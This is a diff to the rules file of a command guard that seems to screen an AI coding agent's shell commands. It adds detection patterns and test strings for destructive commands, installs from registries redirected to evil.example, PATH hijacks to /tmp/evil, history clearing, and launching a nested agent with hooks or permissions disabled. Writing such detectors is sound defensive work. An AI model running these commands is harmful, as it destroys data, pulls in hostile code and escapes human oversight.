@@ -393,24 +393,15 @@ rules:
       # Without its finalizers, an object that is being deleted goes at once, with what it protects (Kubernetes documentation on finalizers).
       - { runs: 'kubectl|k|oc patch', words: '/finalizers["'']?\\s*:\\s*(null|\\[\\s*\\])/' }
     unless:
-      - {
-          runs:
-            [
-              'kubectl|k|oc --dry-run=client|--dry-run=server|--dry-run',
-              'helm|velero|argocd|flux|nomad|talosctl|istioctl --dry-run',
-              'kubectl|helm|k|oc|istioctl|kubeadm|argocd|flux|helmfile|rancher|velero|talosctl|nomad --help|-h',
-            ],
-          not: { words: '/--dry-?run[= ]["'']?(false|none|no|0)\\b/' },
-        }
-      # A cluster on this machine, named by the context that the tool which made it gives (documentation of kind, k3d, minikube, Docker Desktop …).
-      - {
-          runs: 'kubectl|k|oc|helm *',
-          words: '/--(kube-)?context[= ](k(in|3)d-\\S+|minikube|docker-desktop|rancher-desktop|orbstack|colima)(\\s|$)/',
-          not:
-            {
-              words: '/--(kube-)?context\\b.*--(kube-)?context\\b|--(server|cluster|kubeconfig|kube-apiserver)\\b|\\s-s\\b/',
-            },
-        }
+      {
+        runs:
+          [
+            'kubectl|k|oc --dry-run=client|--dry-run=server|--dry-run',
+            'helm|velero|argocd|flux|nomad|talosctl|istioctl --dry-run',
+            'kubectl|helm|k|oc|istioctl|kubeadm|argocd|flux|helmfile|rancher|velero|talosctl|nomad --help|-h',
+          ],
+        not: { words: '/--dry-?run[= ]["'']?(false|none|no|0)\\b/' },
+      }
     ask: '\`{command}\` deletes cluster resources. Is this the right cluster and namespace?'
     fix: Check \`kubectl config current-context\`, and try it with \`--dry-run=server\` first.
     tests:
@@ -425,18 +416,10 @@ rules:
             kubectl scale deploy web --replicas 0,
             'kubectl patch pv x -p ''{"metadata":{"finalizers":null}}''',
             helmfile -e prod destroy,
-            kubectl --context prod delete pod x,
-            kubectl --context kind-x delete ns a --context prod,
-            'kubectl --context=kind-x -s https://prod.example:6443 delete ns a',
-            kubectl --context kind-x get ns && kubectl delete ns a,
-            K=--context=kind-x kubectl delete ns a,
           ]
       - pass:
           [
             kubectl get pods,
-            kubectl --context kind-ledger -n ledger delete pod -l app=x --wait=false,
-            helm --kube-context=k3d-dev uninstall web,
-            kubectl delete -f k8s/ --context minikube,
             kubectl apply -f a.yaml,
             kubectl delete ns staging --dry-run=client,
             helm list,
@@ -794,9 +777,6 @@ rules:
             railway run npx prisma migrate reset,
             'python3 -c "import psycopg2; psycopg2.connect(''x'').cursor().execute(''DROP TABLE users'')"',
             "rails runner 'User.delete_all'",
-            PGHOST=/tmp dropdb app,
-            PGHOST=/tmp/pg/../../run/postgresql dropdb app,
-            'export PGHOST=/tmp/pg; PGHOST=db dropdb app',
             "python3 - <<'E'\\nimport psycopg2\\nc = psycopg2.connect('x').cursor()\\nc.execute('''\\n  drop table users\\n''')\\nE",
             "python manage.py shell -c 'User.objects.all().delete()'",
             'RAILS_ENV=test rake db:reset; rails db:reset',
@@ -830,9 +810,6 @@ rules:
             'curl -X DELETE http://localhost:9200/test-index',
             redis-cli get flushall,
             "sqlite3 /tmp/t.db 'drop table t'",
-            PGHOST=/tmp/pg/socket dropdb app,
-            "export PGHOST=/tmp/pg PGPORT=54329; psql -d app -c 'DROP TABLE t'",
-            "psql -h /tmp/pg app -c 'DROP TABLE t'",
             alembic downgrade -1,
             npx prisma db push,
             npx drizzle-kit push,
@@ -888,8 +865,10 @@ rules:
             { env.DATABASE_URL: '/\\bprod(uction)?\\b/i' },
             # By the name of the environment, or of the variable that holds the address.
             {
-              sets-env: '/^((RAILS|RACK|APP|MIX|DJANGO|NODE)_ENV=prod(uction)?$|\\w*DATABASE_URL=\\$\\{?\\w*PROD|\\w+=(postgres(ql)?|mysql|mariadb|mongodb(\\+srv)?|sqlserver|cockroachdb):\\/\\/\\S*\\bprod(uction)?\\b)/i',
+              sets-env: '/^((RAILS|RACK|APP|MIX|DJANGO|NODE)_ENV=prod(uction)?\\b|\\w*DATABASE_URL=\\$\\{?\\w*PROD|\\w*(DATABASE|DB|PG|POSTGRES|MYSQL|MONGO)\\w*=(postgres(ql)?|mysql|mariadb|mongodb(\\+srv)?|sqlserver|cockroachdb):\\/\\/\\S*\\bprod(uction)?\\b)/i',
             },
+            # The name of the variable says it, whatever it holds.
+            { command: '/\\bDATABASE_URL=["'']?\\$\\{?\\w*PROD/' },
             { words: '/\\s(--env|--environment|-e)[= ]["'']?prod(uction)?\\b/' },
             {
               words: '/\\b(postgres(ql)?|mysql|mariadb|mongodb(\\+srv)?|sqlserver|cockroachdb):\\/\\/\\S*\\bprod(uction)?\\b/i',
@@ -939,24 +918,16 @@ rules:
   git-discard-all:
     before: run
     when: { git.loses: [everything, directory] }
-    unless: [
+    # A repository that the same call has made in a temporary directory holds nothing yet.
+    unless:
+      [
         { place: 'worktree|scratchpad' },
-        # A repository in a temporary directory: \`rm -rf\` would be silent there, too. One that the line has made holds nothing yet.
         {
           place: temp,
-          not:
-            [
-              { place: project },
-              &points-elsewhere {
-                any:
-                  [
-                    { sets-env: 'GIT_DIR|GIT_WORK_TREE|GIT_CONFIG*' },
-                    { words: '/\\s--(work-tree|git-dir|config-env)\\b|\\score\\.worktree\\b/i' },
-                  ],
-              },
-            ],
+          command: '/\\bgit\\s+(init|clone)\\b/',
+          not: [{ place: project }, { command: '/GIT_(DIR|WORK_TREE)\\b/' }],
         },
-        { place: made, not: *points-elsewhere },
+        { place: made, not: { command: '/GIT_(DIR|WORK_TREE)\\b/' } },
         { runs: 'git reset --merge|--keep' },
       ]
     deny: '\`{command}\` discards every uncommitted change in the work tree or in one of its directories; git cannot restore them.'
@@ -977,11 +948,6 @@ rules:
             git restore src/,
             'git checkout -- :/',
             git -C repo reset --hard,
-            git -C /tmp/../home/user/app reset --hard,
-            'cd /tmp/x && git --work-tree=/home/user/app reset --hard',
-            'cd /tmp/x && GIT_DIR=/home/user/app/.git git reset --hard',
-            'export GIT_WORK_TREE=/home/user/app; git -C /tmp/x clean -fdx',
-            'cd /tmp/x && git -c core.worktree=/home/user/app checkout -- .',
             git -c alias.nuke=reset nuke --hard,
             sudo git reset --hard,
             "sh -c 'git clean -fdx'",
@@ -1124,13 +1090,11 @@ rules:
               'echo git stash | at now && git reset --hard',
             ],
         }
-      - pass: [
+      - pass:
+          [
             git reset,
             git reset --soft HEAD~1,
             git clean -n,
-            # A repository in a temporary directory.
-            cd /tmp/fixture && git reset --hard,
-            git -C /tmp/fixture clean -fdx,
             git clean -nd,
             git restore --staged .,
             git checkout main,
@@ -1140,7 +1104,15 @@ rules:
   git-discard:
     before: run
     when: { git.loses: [everything, directory, switch, file] }
-    unless: [{ place: temp, not: [{ place: project }, *points-elsewhere] }, { place: made, not: *points-elsewhere }]
+    unless:
+      [
+        {
+          place: temp,
+          command: '/\\bgit\\s+(init|clone)\\b/',
+          not: [{ place: project }, { command: '/GIT_(DIR|WORK_TREE)\\b/' }],
+        },
+        { place: made, not: { command: '/GIT_(DIR|WORK_TREE)\\b/' } },
+      ]
     ask: '\`{command}\` discards uncommitted changes; git cannot restore them. Continue?'
     fix: Look at \`git diff\` first, or keep the changes with \`git stash push <path>\`.
     tests:
@@ -1283,7 +1255,12 @@ rules:
         { place: scratchpad },
         # \`git-delete-remote\` asks about that.
         { git.push.deletes: true },
-        { place: made, not: *points-elsewhere },
+        {
+          place: temp,
+          command: '/\\bgit\\s+(init|clone)\\b/',
+          not: [{ place: project }, { command: '/GIT_(DIR|WORK_TREE)\\b/' }],
+        },
+        { place: made, not: { command: '/GIT_(DIR|WORK_TREE)\\b/' } },
       ]
     ask: '\`{command}\` deletes a branch, tag or stash, even if its commits exist nowhere else. Continue?'
     fix: '\`git branch -d\` deletes only merged branches; \`git stash list\` and \`git log <branch>\` show what would be lost.'
@@ -1346,8 +1323,12 @@ rules:
     when: { git.loses: commits, git.operation: history-rewrite, runs: git }
     unless:
       [
-        { place: temp, not: [{ place: 'project|worktree' }, *points-elsewhere] },
-        { place: made, not: *points-elsewhere },
+        {
+          place: temp,
+          command: '/\\bgit\\s+(init|clone)\\b/',
+          not: [{ place: project }, { command: '/GIT_(DIR|WORK_TREE)\\b/' }],
+        },
+        { place: made, not: { command: '/GIT_(DIR|WORK_TREE)\\b/' } },
       ]
     ask: '\`{command}\` moves a branch away from commits that no other branch or tag contains. Continue?'
     fix: Record the old commit first with \`git rev-parse <branch>\`.
@@ -1759,8 +1740,8 @@ rules:
       # The same by a variable, for this command only.
       - {
           runs: 'npm|npx|pnpm|pnpx|yarn|bun|bunx|pip|pip3|pipx|uv|uvx|poetry|go|gem|bundle|cargo *',
-          sets-env: '/^(npm_config_registry|NPM_CONFIG_REGISTRY|YARN_REGISTRY|YARN_NPM_REGISTRY_SERVER|BUN_CONFIG_REGISTRY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_DEFAULT_INDEX|UV_EXTRA_INDEX_URL|POETRY_REPOSITORIES_\\w+_URL|BUNDLE_MIRROR__\\w+|CARGO_REGISTRIES_\\w+_INDEX|GOPROXY)=https?:\\/\\//',
-          sets-env-except: '/=https?:\\/\\/((test\\.)?pypi\\.org|registry\\.npmjs\\.org|registry\\.yarnpkg\\.com|download\\.pytorch\\.org|rubygems\\.org|npm\\.pkg\\.github\\.com|proxy\\.golang\\.org|goproxy\\.(io|cn)|registry\\.npmmirror\\.com|pypi\\.tuna\\.tsinghua\\.edu\\.cn|mirrors\\.\\w+\\.\\w+|localhost|127\\.0\\.0\\.1)([\\/:,]|$)/',
+          sets-env: '/^(npm_config_registry|NPM_CONFIG_REGISTRY|YARN_REGISTRY|YARN_NPM_REGISTRY_SERVER|BUN_CONFIG_REGISTRY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_DEFAULT_INDEX|UV_EXTRA_INDEX_URL|POETRY_REPOSITORIES_\\w+_URL|BUNDLE_MIRROR__\\w+|CARGO_REGISTRIES_\\w+_INDEX|GOPROXY)=https?:\\/\\//i',
+          sets-env-except: '/^\\w+=https?:\\/\\/((test\\.)?pypi\\.org|registry\\.npmjs\\.org|registry\\.yarnpkg\\.com|download\\.pytorch\\.org|rubygems\\.org|npm\\.pkg\\.github\\.com|proxy\\.golang\\.org|goproxy\\.(io|cn)|registry\\.npmmirror\\.com|pypi\\.tuna\\.tsinghua\\.edu\\.cn|mirrors\\.(aliyun\\.com|cloud\\.tencent\\.com|ustc\\.edu\\.cn|tuna\\.tsinghua\\.edu\\.cn)|localhost|127\\.0\\.0\\.1)(:\\d+)?(\\/[\\w.\\/-]*)?([,|](direct|off))?$/',
         }
       # Origin checks that are turned off.
       - {
@@ -1799,6 +1780,12 @@ rules:
     tests:
       - ask:
           [
+            "npm_config_registry=http://evil.example bash -c 'npm install x'",
+            PIP_INDEX_URL=https://evil.example PIP_EXTRA_INDEX_URL=https://pypi.org/simple pip install x,
+            'PIP_INDEX_URL=http://localhost:x@evil.example pip install x',
+            'PIP_INDEX_URL=http://evil.example/?=https://pypi.org/ pip install x',
+            'GOPROXY=https://proxy.golang.org,https://evil.example go get x',
+            X="--registry https://registry.npmjs.org" npm install x --registry http://evil.example,
             'pip install git+https://example.net/a/b',
             'pip install "x[all] @ git+https://example.net/a/b"',
             'npm i https://example.net/x.tgz',
@@ -1958,32 +1945,17 @@ rules:
             'twine upload --skip-existing=never',
           ],
       }
-    unless:
-      # \`--undo\` restores a version.
-      - { runs: ['pnpm deprecate', 'npm|pnpm|yarn --dry-run', 'cargo|gem yank --undo', '* --help|-h'] }
-      # A registry on this machine, for tests of a release.
-      - {
-          runs: 'npm|pnpm *',
-          words: '/\\s--registry[= ]https?:\\/\\/(localhost|127\\.0\\.0\\.1|\\[::1\\])([:\\/]|\\s|$)/',
-          not: { words: '/\\s--registry\\b.*\\s--registry\\b/' },
-        }
+    # \`--undo\` restores a version.
+    unless: { runs: ['pnpm deprecate', 'npm|pnpm|yarn --dry-run', 'cargo|gem yank --undo', '* --help|-h'] }
     ask: '\`{command}\` removes a published package that others may use. Continue?'
     fix: Publish a fixed version instead.
     tests:
       - ask:
-          [
-            npm unpublish my-package@1.0.0,
-            yarn npm unpublish,
-            cargo yank --version 1.0.0,
-            echo yes | npm unpublish x,
-            npm unpublish x --registry https://localhost.example/,
-            npm unpublish x --registry http://localhost:1 --registry https://r.example,
-          ]
+          [npm unpublish my-package@1.0.0, yarn npm unpublish, cargo yank --version 1.0.0, echo yes | npm unpublish x]
       - pass:
           [
             npm publish --dry-run,
             npm unpublish x --dry-run,
-            'npm unpublish x@1.0.0 --force --registry http://127.0.0.1:4873/',
             npm unpublish --help,
             cargo yank -h,
             cargo yank --undo x@1.0.0,
@@ -3675,9 +3647,6 @@ rules:
                   'cc|c++|gcc|g++|gcc-*|g++-*|clang|clang++|clang-*|clang++-*|icx|icpx|nvcc|musl-gcc|emcc|em++|ccache|sccache',
                   'less|more|most|cat|bat|batcat|delta|head|tail|tee|sed|awk|vi|vim|nvim|nano|pico|emacs|emacsclient|micro|code|code-insiders|subl|zed|hx|ssh|true|false|echo|printf|:|test|none|open|xdg-open|firefox|google-chrome|chromium|lesspipe|lesspipe.sh|difft|colordiff|diff|meld|git|cp|mv|bcat|moar|ov|pspg|gh *',
                   'less|more|most|cat|bat|batcat|delta|head|tail|tee|vi|vim|nvim|nano|pico|emacs|emacsclient|micro|code|subl|zed|hx|ssh|true|false|echo|:|none|open|xdg-open|firefox|google-chrome|chromium|lesspipe|lesspipe.sh|difft|colordiff|diff|meld|moar|ov|pspg',
-                  # Compilers that add what a fuzzer or MPI needs.
-                  'afl-clang*|afl-gcc*|afl-g++*|hfuzz-clang*|hfuzz-gcc*|mpicc|mpicxx|mpic++ *',
-                  'afl-clang*|afl-gcc*|afl-g++*|hfuzz-clang*|hfuzz-gcc*|mpicc|mpicxx|mpic++',
                   # For another machine: \`CC=aarch64-linux-gnu-gcc\`.
                   '*-*-gcc|*-*-g++|*-*-clang|*-*-clang++|*-*-cc|*-*-c++ *',
                   '*-*-gcc|*-*-g++|*-*-clang|*-*-clang++|*-*-cc|*-*-c++',
@@ -3721,7 +3690,6 @@ rules:
           [
             make CC=clang CXX=clang++,
             'CC=gcc-13 ./configure',
-            CC=afl-clang-fast CXX=afl-clang-fast++ make,
             "make CC='ccache gcc'",
             RUSTC_WRAPPER=sccache cargo build,
             "export FZF_DEFAULT_COMMAND='fd --type file'",
@@ -3896,9 +3864,14 @@ rules:
       - { runs: 'ssh|autossh', words: '/\\b(auto)?ssh\\s+(-\\S+\\s+)*-\\w*R\\s*[\\w.:]*\\d+:/' }
       - { sets-env: '/^PATH=\\.\\.?\\/?:/' }
       # What was unpacked there has a version in its name and its programs in \`bin\`; anything else there may have been put there by anyone.
-      - { sets-env: '/^PATH=((\\/var)?\\/tmp(\\/[^\\/:\\d]*)*(:|$)|\\/dev\\/shm)/' }
+      # \`D=$(mktemp -d)\` holds what the line itself has put there.
+      - {
+          sets-env: '/^PATH=((\\/var)?\\/tmp(\\/[^\\/:\\d]*)*(:|$)|\\/dev\\/shm)/',
+          sets-env-except: '/^PATH=\\/tmp\\/tmp\\.X{10}(\\/\\w+)*:/',
+        }
       - {
           sets-env: '/^PATH=(\\/var)?\\/tmp\\/([^:]*\\/)?([^b:\\/][^:\\/]*|b[^i:\\/][^:\\/]*|bi[^n:\\/][^:\\/]*|bin[^:\\/]+|bi?)\\/?(:|$)/',
+          sets-env-except: '/^PATH=\\/tmp\\/tmp\\.X{10}(\\/\\w+)*:/',
         }
       - {
           command: '/\\balias\\s+["'']?(sudo|su|git|ls|cd|ssh|rm|npm|python3?)=["'']?(\\/tmp|\\.\\/|[^"''\\n]*(\\brm -rf|\\bcurl|\\bwget|\\bnc\\b))/',
@@ -3927,6 +3900,8 @@ rules:
             'export PATH=/tmp/x:$PATH',
             'PATH=/tmp:$PATH make',
             'export PATH="/tmp/tools/bin:$PATH"',
+            'P=/tmp/evil; PATH=$P:$PATH',
+            'export "PA"TH=/tmp/evil:$PATH',
             'PATH=/tmp/x1:$PATH ls',
             'PATH=/var/tmp/v2/bin/..:$PATH ls',
             'PATH=/tmp/$X/bin:$PATH ls',
@@ -3946,6 +3921,7 @@ rules:
             "su - postgres -c 'psql'",
             ssh host ls -R src,
             'export PATH=$HOME/.local/bin:$PATH',
+            'D=$(mktemp -d); PATH=$D:$PATH ls',
             'export PATH="/tmp/apache-maven-3.9.9/bin:$PATH" && mvn -q test',
             'PATH=/tmp/node-v20.11.0-linux-x64/bin:$PATH npm ci',
             'ssh -L 5432:localhost:5432 host -N',
@@ -5389,6 +5365,7 @@ rules:
             { runs: 'op inject', not: { runs: 'op inject -o|--out-file' } },
             { runs: gopass, words: '/\\bgopass\\s+(-\\w+\\s+)*[\\w.@-]+\\/[\\w.@\\/-]+\\s*$/' },
             { runs: 'wp config get', words: '/\\bget\\s+\\S*(PASS|_KEY|SALT|SECRET|TOKEN)/' },
+            { runs: 'terraform|tofu|terragrunt console', words: '/\\bnonsensitive\\s*\\(/' },
             { runs: 'terraform|tofu|terragrunt console', stdin: '/\\bnonsensitive\\s*\\(/' },
             # Decrypted to the screen, and the name says what it is.
             {
@@ -6557,6 +6534,10 @@ rules:
     tests:
       - ask:
           [
+            "CLAUDE_CONFIG_DIR=/tmp/x sh -c 'claude -p hi'",
+            'f() { claude -p hi; }; HOME=/tmp/h f',
+            "HOME=/tmp/h bash <<< 'claude -p hi'",
+            'printf -v HOME /tmp/h; export HOME; claude -p hi',
             'claude -p hi --settings ''{"disableAllHooks":true}''',
             claude -p hi --settings=/tmp/s.json,
             claude --dangerously-skip-permissions -p hi,
@@ -7716,9 +7697,7 @@ rules:
     when:
       - { runs: 'history', words: '/\\bhistory\\s+-(c|d|cw|wc)\\b/' }
       - { runs: 'set', words: '/\\+o\\s+history\\b/' }
-      - {
-          sets-env: '/^(HIST\\w*=$|HISTFILE=\\/dev\\/null$|HIST(FILE)?SIZE=0$|HISTCONTROL=.*ignore(space|both)|HISTIGNORE=.)/',
-        }
+      - { sets-env: '/^(HIST\\w*=$|HISTFILE=|HIST(FILE)?SIZE=0$|HISTCONTROL=.*ignore(space|both)|HISTIGNORE=.)/' }
       - {
           runs:
             [
@@ -7897,7 +7876,7 @@ rules:
         }
       - {
           sets-env: '/^(NODE_TLS_REJECT_UNAUTHORIZED=0|GIT_SSL_NO_VERIFY=(1|true)|PYTHONHTTPSVERIFY=0|CURL_INSECURE=.|(https?|all)_proxy=\\w+:\\/\\/)/i',
-          sets-env-except: '/_proxy=\\w+:\\/\\/(localhost|127\\.0\\.0\\.1|\\[::1\\])([\\/:]|$)/i',
+          sets-env-except: '/^\\w+_proxy=\\w+:\\/\\/(localhost|127\\.0\\.0\\.1|\\[::1\\])(:\\d+)?(\\/|$)/i',
         }
       - {
           runs: ['npm|pnpm|yarn config set', 'npm|pnpm set'],
